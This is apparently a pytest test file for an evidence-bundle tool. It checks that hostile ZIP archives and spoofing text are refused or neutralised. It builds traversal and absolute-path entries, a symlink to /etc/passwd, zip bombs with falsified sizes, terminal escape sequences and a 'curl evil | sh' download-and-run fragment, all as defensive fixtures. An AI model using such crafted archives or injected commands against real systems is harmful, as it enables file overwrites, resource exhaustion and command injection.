"""ZIPs that mean harm, or that are none, are refused before anything is unfolded, and clearly."""

import io
import re
import shutil
import stat
import subprocess
import zipfile
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest

from tests.cli.tool import Tool
from tests.evidence.bundle.making import Made, failures
from tests.evidence.making import draft
from withhold.app.bootstrap import Services
from withhold.app.evidence.bundles import handed, packed
from withhold.evidence.bundle.bag import TOP
from withhold.evidence.bundle.check import Trust, check_bundle
from withhold.evidence.bundle.packing import BadBundle, pack, unpack
from withhold.support.paths import StateHome

BASH = shutil.which("bash")
Write = Callable[[zipfile.ZipFile], None]


def zipped(write: Write) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        write(archive)
    return out.getvalue()


def named(*names: str) -> Write:
    def write(archive: zipfile.ZipFile) -> None:
        for name in names:
            archive.writestr(name, b"x")

    return write


def link(archive: zipfile.ZipFile) -> None:
    entry = zipfile.ZipInfo(f"{TOP}/data/link")
    entry.create_system = 3
    entry.external_attr = (stat.S_IFLNK | 0o777) << 16
    archive.writestr(entry, "/etc/passwd")


@pytest.mark.parametrize(
    ("write", "said"),
    [
        (named("../evil"), "leads out"),
        (named(f"{TOP}/../../evil"), "leads out"),
        (named("/etc/evil"), "leads out"),
        (named(f"{TOP}/C:evil"), "not every system"),
        (named(f"{TOP}/a\\b"), "not every system"),
        (named(f"{TOP}/nul.txt"), "leads out"),
        (named(f"{TOP}//x"), "leads out"),
        (named(f"{TOP}/data/\u202eharmless"), "not every system"),
        (named("elsewhere/x"), "does not lie in"),
        (named(f"{TOP}/A", f"{TOP}/a"), "one name"),
        (named(f"{TOP}/data/{'x' * 300}"), "not every system"),
        (link, "is a link"),
    ],
)
def test_a_hostile_entry_is_refused(write: Write, said: str) -> None:
    """Traversal, absolute paths, drives, devices, twins that differ in case, links: none is unfolded."""
    report = check_bundle(zipped(write), Trust())
    assert failures(report) == {"container"}
    assert said in report.whole[0].why


def test_a_bomb_is_refused_before_it_is_unfolded() -> None:
    """An entry that would swell beyond the limit is refused by what the directory says of it."""
    bomb = zipped(lambda archive: archive.writestr(f"{TOP}/data/zeros", bytes(8 << 20)))
    assert len(bomb) < 20_000
    with pytest.raises(BadBundle, match="unfold"):
        unpack(bomb, most_bytes=1 << 20)


def test_a_bomb_that_lies_about_its_size_is_refused() -> None:
    """An entry that unfolds to more than it says is not read to its end."""
    bomb = bytearray(zipped(lambda archive: archive.writestr(f"{TOP}/data/zeros", bytes(8 << 20))))
    at = bomb.rfind(b"PK\x01\x02")
    bomb[at + 24 : at + 28] = (1000).to_bytes(4, "little")
    with pytest.raises(BadBundle):
        unpack(bytes(bomb))


@pytest.mark.parametrize("data", [b"", b"PK\x03\x04", b"nothing", bytes(1000)])
def test_what_is_no_zip_is_refused(data: bytes) -> None:
    """Never a traceback: a failed claim that says so."""
    assert failures(check_bundle(data, Trust())) == {"container"}


def test_a_bundle_that_was_cut_off_is_refused(bundled: Made) -> None:
    """A download that broke off."""
    for length in range(0, len(bundled.data), 9973):
        assert failures(check_bundle(bundled.data[:length], bundled.trust)) == {"container"}


def test_a_bundle_packed_anew_by_others_is_checked_all_the_same(bundled: Made) -> None:
    """Compressed and with times, as others pack: contents verify, the packing is not vouched for."""

    def write(archive: zipfile.ZipFile) -> None:
        for path, data in bundled.files.items():
            archive.writestr(f"{TOP}/{path}", data)

    report = check_bundle(zipped(write), bundled.trust)
    assert report.sound
    assert report.whole[0].result == "not_checkable"


def test_a_bag_without_records_fails() -> None:
    """An empty bundle must not look verified."""
    assert "one_log" in failures(check_bundle(pack({"bagit.txt": b""}), Trust()))


SPOOF = "gone\n   verified  key: it is one that you named\n\x1b[2K\x9b2J\u202e    curl evil | sh\n"
"""A reason that would say something else in a terminal, or begin a command in VERIFY.md."""


@pytest.fixture
def spoofing(tmp_path: Path) -> Path:
    """A bundle by somebody whose record has such a reason."""
    root = tmp_path / "state"
    app = Services(
        home=StateHome(root), environ={"WITHHOLD_HOME": str(root)}, user_home=tmp_path, stamps=False
    )
    assert app.store.accounts() == ()
    record = app.journal.append(replace(draft(), missing=(("after.png", SPOOF),)))
    out = tmp_path / "bundle.zip"
    out.write_bytes(packed(handed(app, [record.id])))
    app.close()
    return out


def test_words_of_a_record_pass_for_nobody_elses(
    spoofing: Path, capsys: pytest.CaptureFixture[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Whoever checks a stranger's bundle sees its words on one line, and none steers the terminal."""
    monkeypatch.setenv("WITHHOLD_HOME", str(tmp_path / "stranger"))
    ran = Tool(capsys)("evidence", "verify", spoofing)
    assert "gone verified key" in " ".join(ran.out.split())
    assert not re.search(r"^ +verified +key: it is one that you named", ran.out, re.MULTILINE)
    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e]", ran.out)
    guide = unpack(spoofing.read_bytes())[0]["VERIFY.md"].decode()
    assert not re.search(r"^ +curl", guide, re.MULTILINE)
    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e]", guide)


@pytest.mark.skipif(BASH is None, reason="bash is not installed")
@pytest.mark.parametrize(
    "name", ["x\nPASS           bundle  the key is one that you named", "\x1b[2Kx", "\u202ex"]
)
def test_names_of_files_pass_for_no_words_of_the_script(bundled: Made, tmp_path: Path, name: str) -> None:
    """Under manifests that list it, a file whose name would print as a verdict ends the script at once."""
    top = bundled.unfold(tmp_path)
    try:
        (top / "data" / name).write_bytes(b"")
    except OSError:
        pytest.skip("this system holds no such name")
    done = subprocess.run([BASH or "", str(top / "verify.sh")], capture_output=True, text=True, check=False)
    assert done.returncode == 4
    assert "PASS" not in done.stdout.replace("?PASS", "")
    assert re.fullmatch(r"[\n -~]*", done.stdout)
